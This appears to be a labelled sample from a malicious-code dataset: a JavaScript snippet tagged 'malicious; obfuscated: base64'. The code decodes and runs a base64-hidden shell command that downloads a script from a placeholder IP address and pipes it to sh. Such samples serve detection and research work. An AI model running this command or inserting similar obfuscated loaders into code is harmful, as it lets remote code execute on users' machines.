// label: malicious; obfuscated: base64
require("child_process").execSync(Buffer.from("Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjkveCB8IHNo", "base64").toString());
